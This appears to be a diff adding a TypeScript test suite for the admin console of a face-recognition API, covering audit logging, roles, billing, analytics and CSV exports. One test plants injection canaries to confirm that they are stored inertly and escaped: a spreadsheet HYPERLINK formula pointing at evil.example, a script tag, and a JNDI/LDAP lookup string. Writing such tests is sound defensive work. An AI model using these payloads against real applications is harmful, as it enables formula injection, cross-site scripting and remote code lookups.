@@ -1,0 +1,290 @@
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { consoleRoutes } from '../../src/console/routes.ts'
+import { isOnPostgres } from '../support/database/engine.ts'
+import { assertLedgerAudit } from '../support/gate/test-gate.ts'
+import {
+  validPassword,
+  assertOk,
+  startConsole,
+  type TestConsole,
+} from '../support/console/test-console.ts'
+import { imageParams } from '../support/gallery/test-gallery.ts'
+
+let testConsole: TestConsole
+before(async () => {
+  testConsole = await startConsole({ environment: { AUTH_FAILURES_BURST: '1000' } })
+})
+after(() => testConsole[Symbol.asyncDispose]())
+
+const send = (method: string, path: string, body?: unknown) =>
+  testConsole.owner.send(method, path, body)
+const get = async (path: string) => assertOk(await testConsole.owner.get(path)).body
+
+async function runInPlayground(action: string, params: object, more: object = {}) {
+  const call = { action, params, ...more }
+  return assertOk(await send('POST', '/playground', { projectId: testConsole.projectId, call }))
+    .body
+}
+
+test('every write leaves one row in the audit; a write that fails, none', async () => {
+  const audited = async () => (await get('/audit?limit=200')).items
+  const before = (await audited()).length
+  const { projectId } = testConsole
+  const project = `/projects/${projectId}`
+  const enrolled = await runInPlayground('svc.enroll', { ...imageParams('Ada'), groups: ['crew'] })
+  const { subjectId } = enrolled.envelope.data.results[0].value
+  const more = await runInPlayground('svc.enroll', {
+    ...imageParams('Ada'),
+    subjectId,
+    duplicateCheck: 'off',
+  })
+  const { faceId } = more.envelope.data.results[0].value
+  const minted = assertOk(
+    await send('POST', '/keys', { projectId, name: 'k', permissions: ['svc.detect'] }),
+  ).body
+  const invited = assertOk(await send('POST', '/users', { name: 'Uma', role: 'viewer' })).body
+  const other = await runInPlayground('svc.enroll', { ...imageParams('Bob') })
+  const bob = other.envelope.data.results[0].value.subjectId
+  const writes: readonly (readonly [string, string, unknown])[] = [
+    ['POST', '/projects', { name: 'second', galleryMode: 'shared' }],
+    ['PATCH', project, { burst: 50 }],
+    ['POST', `/keys/${minted.keyId}/revoke`, { confirm: 'k' }],
+    ['PATCH', `${project}/subjects/${subjectId}`, { displayName: 'Ada L.' }],
+    ['DELETE', `${project}/subjects/${subjectId}/faces/${faceId}`, undefined],
+    ['DELETE', `${project}/subjects/${bob}`, { confirm: bob.slice(0, 8) }],
+    ['DELETE', `${project}/groups/crew`, { confirm: 'crew' }],
+    ['POST', '/money/top-up', { amountMicros: '1000000', note: 'more' }],
+    ['POST', '/money/allocate', { projectId, amountMicros: '500000' }],
+    ['PUT', '/money/prices/svc.detect', { unitMicros: '2000' }],
+    ['PATCH', `/users/${invited.user.userId}`, { role: 'admin' }],
+    ['POST', `/users/${invited.user.userId}/invite`, undefined],
+    ['POST', '/password', { current: validPassword, next: validPassword }],
+  ]
+  for (const [method, path, body] of writes) assertOk(await send(method, path, body))
+  const wrong = await send('POST', `/keys/${minted.keyId}/revoke`, { confirm: 'no' })
+  assert.equal(wrong.status, 422)
+  const guest = testConsole.newClient()
+  assertOk(await guest.send('POST', '/sign-in', { name: 'Olga', password: validPassword }))
+  assertOk(await guest.send('POST', '/sign-out'))
+  const acts = (await audited()).map(({ act }: { act: string }) => act)
+  assert.equal(acts.length, before + 3 + 2 + writes.length + 2)
+  const known = consoleRoutes.flatMap((route) =>
+    'auditAction' in route ? [route.auditAction] : [],
+  )
+  for (const act of known) assert.ok(acts.includes(act), `${act} is audited`)
+  await assertLedgerAudit(testConsole.gallery)
+})
+
+test('a viewer reads and changes nothing; an admin changes all but users and prices', async () => {
+  const [viewer, admin] = [
+    await testConsole.inviteMember('viewer'),
+    await testConsole.inviteMember('admin'),
+  ]
+  for (const route of consoleRoutes) {
+    if (route.minimumRole === 'stranger' || ['/sign-out', '/password'].includes(route.path))
+      continue
+    const path = route.path.replaceAll(/:\w+/gu, '00000000-0000-4000-8000-000000000000')
+    const body = route.method === 'GET' ? undefined : {}
+    const seen = await viewer.send(route.method, path, body)
+    const isAllowed = route.method === 'GET'
+    assert.equal(seen.status === 403, !isAllowed, `${route.method} ${path}: ${seen.status}`)
+    const done = await admin.send(route.method, path, body)
+    assert.equal(done.status === 403, route.minimumRole === 'owner', `${route.method} ${path}`)
+    const stranger = await testConsole.newClient().send(route.method, path, body)
+    assert.equal(stranger.status, 401, `${route.method} ${path}`)
+  }
+})
+
+test('the playground is billed, logged and counted like any call, under a key nobody sees', async () => {
+  const before = await get('/overview')
+  const played = await runInPlayground('svc.detect', imageParams('Cleo'), { debug: true })
+  assert.equal(played.envelope.ok, true)
+  assert.equal(played.status, 200)
+  assert.ok(BigInt(played.costMicros) > 0n)
+  const { requestId } = played.envelope
+  const { items } = await get(`/log?requestId=${requestId}`)
+  assert.equal(items.length, 1)
+  assert.equal(items[0].keyName, 'Console playground')
+  assert.equal(items[0].costMicros, played.costMicros)
+  const call = await get(`/log/${items[0].callId}`)
+  assert.equal(call.transfer.amountMicros, played.costMicros)
+  assert.equal(call.attempt.answerKept, true)
+  const keys = (await get('/keys')).items.map(({ name }: { name: string }) => name)
+  assert.ok(!keys.includes('Console playground'))
+  const after = await get('/overview')
+  assert.equal(after.calls, before.calls + 1)
+  const spent = BigInt(after.spentMicros) - BigInt(before.spentMicros)
+  assert.equal(String(spent), played.costMicros)
+  const refused = await runInPlayground('svc.nothing', {})
+  assert.equal(refused.envelope.errors[0].code, 'INVALID_REQUEST')
+  assert.equal(refused.costMicros, '0')
+})
+
+test('charts count what the log holds, and the log reconciles with the ledger', async () => {
+  await runInPlayground('svc.verify', { images: [image('Dan'), image('Dan')] })
+  await runInPlayground('svc.verify', { images: [image('Dan'), image('Eve')] })
+  await runInPlayground('svc.liveness', { images: [image('Dan')] })
+  const log = (await get('/log?limit=200')).items as { action: string; costMicros: string }[]
+  const byAction = await get('/analytics/calls?by=action&bucket=day')
+  for (const { name, total } of byAction.series)
+    assert.equal(total, log.filter(({ action }) => action === name).length, name)
+  const spend = await get('/analytics/spend?by=project')
+  const cost = log.reduce((sum, row) => sum + BigInt(row.costMicros), 0n)
+  assert.equal(spend.series[0].totalMicros, String(cost))
+  const latency = await get('/analytics/latency')
+  assert.ok(latency.overall.p50 > 0 && latency.overall.p50 <= latency.overall.p99)
+  const scores = await get('/analytics/scores?kind=similarity')
+  assert.equal(scores.counts.length + 1, scores.edges.length)
+  assert.equal(scores.total, 2)
+  assert.equal(scores.matched, 1)
+  assert.equal(scores.counts[49], 1)
+  assert.equal(scores.threshold, 0.8)
+  const { total, matched, threshold } = await get('/analytics/scores?kind=liveness')
+  assert.deepEqual([total, matched, threshold], [1, 1, 0.9])
+  const reconciled = await get('/money/reconcile')
+  assert.equal(reconciled.ok, true)
+  assert.equal(reconciled.logMicros, String(cost))
+  const verified = await get('/money/verify')
+  assert.deepEqual([verified.ok, verified.checks.length], [true, 9])
+  assert.deepEqual((await get(`/projects/${testConsole.projectId}/deletions/check`)).ok, true)
+})
+
+test('pages stay as they are while calls are added, and nobody is listed twice', async () => {
+  for (let at = 0; at < 5; at++) await runInPlayground('svc.detect', imageParams(`Page ${at}`))
+  const seen: number[] = []
+  let cursor: string | null = ''
+  while (cursor !== null) {
+    const page = await get(`/log?limit=3${cursor && `&cursor=${cursor}`}`)
+    seen.push(...page.items.map(({ callId }: { callId: number }) => callId))
+    cursor = page.nextCursor
+    if (seen.length < 7) await runInPlayground('svc.detect', imageParams('Later'))
+  }
+  assert.equal(new Set(seen).size, seen.length)
+  assert.deepEqual(
+    seen,
+    [...seen].sort((a, b) => b - a),
+  )
+  assert.equal((await testConsole.owner.get('/log?cursor=nonsense')).status, 422)
+  assert.equal((await testConsole.owner.get('/log?limit=201')).status, 422)
+  assert.equal((await testConsole.owner.get('/log?unknown=1')).status, 422)
+})
+
+test('T59: what callers wrote is text everywhere, and no formula in a sheet', async () => {
+  const canary = '=HYPERLINK("https://evil.example?x=1"),<script>alert(1)</script>'
+  const externalId = [canary, '$', '{jndi:ldap://x}'].join('\r\n')
+  const enrolled = await runInPlayground('svc.enroll', { ...imageParams('Fay'), externalId })
+  const { subjectId } = enrolled.envelope.data.results[0].value
+  const project = `/projects/${testConsole.projectId}`
+  const found = await testConsole.owner.get(`${project}/subjects/${subjectId}`)
+  assert.equal(found.body.externalId, externalId)
+  assert.match(found.headers.get('content-type') ?? '', /^application\/json/u)
+  assert.equal(found.headers.get('x-content-type-options'), 'nosniff')
+  assert.equal(found.headers.get('access-control-allow-origin'), null)
+  assert.match(found.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/u)
+  assertOk(
+    await send('DELETE', `${project}/subjects/${subjectId}`, { confirm: subjectId.slice(0, 8) }),
+  )
+  const sheet = assertOk(
+    await testConsole.owner.get(`${project}/deletions.csv?subjectId=${subjectId}`),
+  )
+  assert.match(sheet.headers.get('content-type') ?? '', /^text\/csv/u)
+  assert.ok(sheet.text.includes(`"'=HYPERLINK(""https`), sheet.text)
+  assert.equal(
+    sheet.text.split('\r\n')[0],
+    'deletionId,subjectId,tenantId,groups,externalId,embeddingCount,deletedAtUtc',
+  )
+})
+
+test('a sheet holds the whole list, with negative amounts as numbers', async () => {
+  const { projectId } = testConsole
+  assertOk(await send('POST', '/money/allocate', { projectId, amountMicros: '-1' }))
+  const sheet = assertOk(await testConsole.owner.get('/money/ledger.csv?kind=allocate'))
+  const { items } = await get('/money/ledger?kind=allocate&limit=200')
+  assert.equal(sheet.text.trimEnd().split('\r\n').length, items.length + 1)
+  const log = assertOk(await testConsole.owner.get('/log.csv'))
+  assert.match(log.text, /^callId,atUtc,keyId/u)
+  assert.ok(!log.text.includes('base64'))
+})
+
+test('the gallery is switched only by who repeats what it means', async () => {
+  const made = assertOk(
+    await send('POST', '/projects', { name: 'switched', galleryMode: 'isolated' }),
+  ).body
+  const path = `/projects/${made.projectId}`
+  const preview = await get(`${path}/gallery-mode-preview`)
+  const blind = await send('PATCH', path, { galleryMode: 'shared' })
+  assert.equal(blind.status, 422)
+  assert.equal(blind.body.problems[0].path, 'body.statement')
+  const { statement } = preview
+  const changed = assertOk(await send('PATCH', path, { galleryMode: 'shared', statement })).body
+  assert.equal(changed.galleryMode, 'shared')
+  assert.equal((await send('PATCH', path, { switches: { none: true } })).status, 422)
+  const switched = await send('PATCH', path, { switches: { gender: false, storeCrops: true } })
+  assert.equal(switched.status, 200)
+  const switches = { gender: false, expression: true, storeCrops: true, adopt: false }
+  assert.deepEqual((await get(path)).switches, switches)
+  assert.equal((await send('PATCH', path, { name: 'default' })).status, 409)
+  const limited = assertOk(await send('PATCH', path, { sustainedPerS: 5, burst: null })).body
+  assert.deepEqual([limited.sustainedPerS, limited.isBurstDefault], [5, true])
+})
+
+test('a minted key works until it is revoked; it is shown once and kept nowhere', async () => {
+  const wanted = { projectId: testConsole.projectId, name: 'door', permissions: ['svc.detect'] }
+  const { key, keyId } = assertOk(await send('POST', '/keys', wanted)).body
+  const client = testConsole.gallery.withKey(key)
+  assert.equal((await client.call('svc.detect', imageParams('Gus'))).body.ok, true)
+  assert.equal(await client.code('svc.enroll', imageParams('Gus')), 'FORBIDDEN')
+  const listed = JSON.stringify(await get('/keys')) + JSON.stringify(await get('/audit?limit=200'))
+  assert.ok(!listed.includes(key.slice(10, 40)))
+  assertOk(await send('POST', `/keys/${keyId}/revoke`, { confirm: 'door' }))
+  assert.equal((await client.call('svc.detect', imageParams('Gus'))).status, 401)
+  const past = { ...wanted, expiresAtUtc: '2020-01-01T00:00:00Z' }
+  assert.equal((await send('POST', '/keys', past)).status, 422)
+})
+
+test('money cannot be moved that is not there; amounts are whole', async () => {
+  const { projectId } = testConsole
+  const much = { projectId, amountMicros: '99999999999999' }
+  assert.equal((await send('POST', '/money/allocate', much)).status, 409)
+  assert.equal((await send('POST', '/money/top-up', { amountMicros: '1.5' })).status, 422)
+  assert.equal((await send('POST', '/money/top-up', { amountMicros: '-5' })).status, 409)
+  const money = await get('/money')
+  const { spentMicros, allocatedMicros, balanceMicros } = money.projects[0]
+  assert.equal(BigInt(spentMicros), BigInt(allocatedMicros) - BigInt(balanceMicros))
+})
+
+test('the pages that only show answer in the form that they promise', async () => {
+  for (const path of ['/actions', '/errors', '/permissions', '/models', '/system', '/users'])
+    assertOk(await testConsole.owner.get(path))
+  const { store } = await get('/system')
+  assert.ok(store.bytes > 0 && !store.place.includes('@'))
+  assert.match(store.version, isOnPostgres() ? /^PostgreSQL \d/u : /^SQLite 3/u)
+  const pids = store.servers.map(({ pid }: { pid: number }) => pid)
+  assert.deepEqual(pids, isOnPostgres() ? [process.pid] : [])
+  const actions = (await get('/actions')) as {
+    name: string
+    imagesMin: number
+    imagesMax: number
+  }[]
+  const bounds = actions.map(({ name, imagesMin, imagesMax }) => [name, imagesMin, imagesMax])
+  assert.deepEqual(
+    bounds.filter(([name]) => /verify|identify|updateSubject|deleteSubject/u.test(String(name))),
+    [
+      ['svc.deleteSubject', 0, 0],
+      ['svc.identify', 1, 10],
+      ['svc.updateSubject', 0, 1],
+      ['svc.verify', 1, 10],
+    ],
+  )
+  for (const days of [1, 7, 30]) {
+    const overview = await get(`/overview?days=${days}`)
+    assert.equal(overview.series.length, days === 1 ? 24 : days)
+  }
+  const groups = await get(`/projects/${testConsole.projectId}/groups?q=zz`)
+  assert.deepEqual(groups, { items: [], nextCursor: null })
+})
+
+function image(person: string): object {
+  return (imageParams(person) as { images: object[] }).images[0] ?? {}
+}
